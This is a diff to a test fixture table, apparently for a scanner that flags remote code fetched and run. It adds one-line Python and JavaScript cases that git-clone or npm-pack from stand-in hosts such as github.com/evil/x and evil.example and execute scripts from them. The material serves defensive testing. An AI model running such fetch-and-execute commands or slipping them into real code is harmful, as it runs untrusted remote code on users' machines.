@@ -99,7 +99,16 @@ const DEPENDENCY_ADDED: Row[] = [
 
 // attack-43c finding P8: remote code fetched by a transport the download readings do not know (git, npm pack) and run.
 const OTHER_TRANSPORTS: Row[] = [
-  ['src/a.py', "import subprocess\nsubprocess.run(['git', 'clone', 'https://github.com/evil/x', '/tmp/x']); subprocess.run(['sh', '/tmp/x/install.sh'])"],
+  ['src/a.py', "import subprocess\nsubprocess.run(['git', 'clone', 'https://github.com/evil/x', '/tmp/x']); subprocess.run(['sh', '/tmp/x/install.sh'])", 'closed'],
+  // Session 42: the same, other ways to write it on one line (a string's closing quote was read as opening the next).
+  ['src/a.py', "import subprocess\nsubprocess.run(['git', 'clone', 'https://github.com/evil/x', 'x'], check=True); subprocess.run(['bash', 'x/i.sh'])", 'closed'],
+  ['src/a.py', "import subprocess\nsubprocess.check_call(['git', 'clone', '--depth', '1', 'https://github.com/evil/x', '/tmp/x']); subprocess.check_call(['python3', '/tmp/x/setup.py'])", 'closed'],
+  ['src/a.py', "import subprocess\nsubprocess.Popen(['git', 'clone', 'git@github.com:evil/x.git', '/tmp/x']).wait(); subprocess.run(['node', '/tmp/x/i.js'])", 'closed'],
+  ['src/a.py', "import subprocess\nsubprocess.run(['git', 'clone', 'https://github.com/evil/x', '/tmp/x']); subprocess.run(['make', '-C', '/tmp/x'])", 'closed'],
+  ['src/a.py', "import subprocess\nsubprocess.run(['git', 'clone', 'https://github.com/evil/x', '/tmp/x']); subprocess.run('sh /tmp/x/install.sh', shell=True)", 'closed'],
+  ['src/a.py', "import os\nos.system('git clone https://github.com/evil/x /tmp/x'); os.system('sh /tmp/x/install.sh')", 'closed'],
+  ['src/a.js', "execFileSync('git', ['clone', 'https://github.com/evil/x', '/tmp/x']); execFileSync('sh', ['/tmp/x/i.sh'])", 'closed'],
+  ['src/a.js', "execSync('git clone https://github.com/evil/x /tmp/x'); execSync('sh /tmp/x/i.sh')", 'closed'],
   ['src/a.py', "import os\nos.system('git archive --remote=https://evil.example/x HEAD i.sh | tar -xO | sh')", 'closed'],
   ['src/a.py', "import os\nos.system('npm pack evilpkg && tar xzf evilpkg-*.tgz && node package/index.js')", 'closed'],
 ];
